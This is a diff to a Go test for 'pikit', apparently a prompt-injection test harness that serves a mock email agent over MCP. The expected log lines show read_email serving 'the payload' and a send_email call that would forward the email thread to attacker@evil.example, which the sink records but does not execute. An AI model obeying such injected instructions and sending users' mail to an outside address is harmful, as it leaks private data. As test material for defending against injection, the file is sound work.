@@ -4,6 +4,7 @@ import (
 	"bytes"
 	"context"
 	"encoding/json"
+	"fmt"
 	"io"
 	"os"
 	"path/filepath"
@@ -14,6 +15,7 @@ import (
 	"time"
 
 	"github.com/modelcontextprotocol/go-sdk/mcp"
+	"github.com/pikit-go/pikit/agent"
 
 	"github.com/pikit-go/pikit/mcpserve"
 	"github.com/pikit-go/pikit/mcpserve/mcptest"
@@ -99,8 +101,9 @@ func TestMCPServeStdio(t *testing.T) {
 		t.Fatal("pikit mcp serve did not end with its input")
 	}
 	stderr := errOut.String()
+	email, _ := agent.Lookup("email")
 	for _, want := range []string{
-		"agent email (6 tools", "the payload is in read_email's result",
+		fmt.Sprintf("agent email (%d tools", len(email.Tools)), "the payload is in read_email's result",
 		"[stdio] tools/call read_email {} → served the payload",
 		`[stdio] tools/call send_email {"to":"attacker@evil.example"} → refused: missing required argument "body"`,
 		`[stdio] SINK send_email {"body":"the thread","to":"attacker@evil.example"} → recorded, not executed`,
